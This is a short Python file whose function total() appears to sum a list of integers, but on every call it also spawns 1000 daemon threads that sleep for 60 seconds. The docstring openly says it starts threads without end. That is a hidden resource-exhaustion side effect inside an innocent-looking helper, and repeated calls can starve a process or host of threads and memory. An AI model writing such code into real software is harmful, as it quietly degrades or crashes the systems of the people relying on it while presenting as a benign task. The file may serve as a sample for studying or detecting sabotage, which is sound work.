"""Starts threads without end."""

import threading
import time


def total(numbers: list[int]) -> int:
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return sum(numbers)
